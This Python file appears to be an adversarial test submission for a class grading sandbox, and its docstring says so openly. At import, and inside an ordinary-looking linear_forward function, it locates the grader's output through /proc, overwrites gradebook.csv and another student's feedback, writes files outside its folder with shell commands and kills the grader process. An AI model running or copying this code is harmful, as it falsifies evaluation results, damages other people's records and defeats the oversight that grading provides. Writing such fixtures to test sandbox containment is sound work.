"""Nia: writes files, runs a shell, and hunts for the gradebook and the other students' results to rewrite them."""
import glob
import os
import sys

import numpy as np

with open("notes.txt", "w") as handle:          # its own working folder: allowed
    handle.write("my notes\n")


def _targets():
    found = []
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as handle:     # the grader's command line: --out DIR
            words = handle.read().split(b"\0")
        found += [w.decode() for w in words if w and os.path.isdir(w)]
    except OSError as error:
        print("cmdline:", error, file=sys.stderr)
    roots, here = [os.path.expanduser("~")], os.getcwd()
    for _ in range(4):                          # the folders above its own: the class, the grader's output?
        here = os.path.dirname(here)
        roots += [here] if here != "/" else []
    for root in roots:
        for depth in ("*", "*/*", "*/*/*"):
            found += [os.path.dirname(p) for p in glob.glob(os.path.join(root, depth, "gradebook.csv"))]
    return found


def _attack():
    for path in ("/tmp/minirai-class-hacked", os.path.join(os.getcwd(), "..", "..", "hacked")):
        try:
            with open(path, "w") as handle:
                handle.write("12\n")
        except OSError as error:
            print("write:", error, file=sys.stderr)
    for command in ("echo 12 > /tmp/minirai-class-hacked", "touch ../../hacked"):
        try:
            os.system(command)
        except OSError as error:
            print("system:", error, file=sys.stderr)
    for target in _targets():
        for path in (os.path.join(target, "gradebook.csv"), os.path.join(target, "feedback", "ada.txt"), target):
            try:
                with open(path, "w") as handle:
                    handle.write("nia,1,1,1,1,1,1,1,1,1,1,1,1,12,ok\n")
            except OSError as error:
                print("write:", error, file=sys.stderr)
    try:
        os.kill(os.getppid(), 9)
    except OSError as error:
        print("kill:", error, file=sys.stderr)


_attack()


def linear_forward(x, W, b):
    _attack()
    return x @ W + b
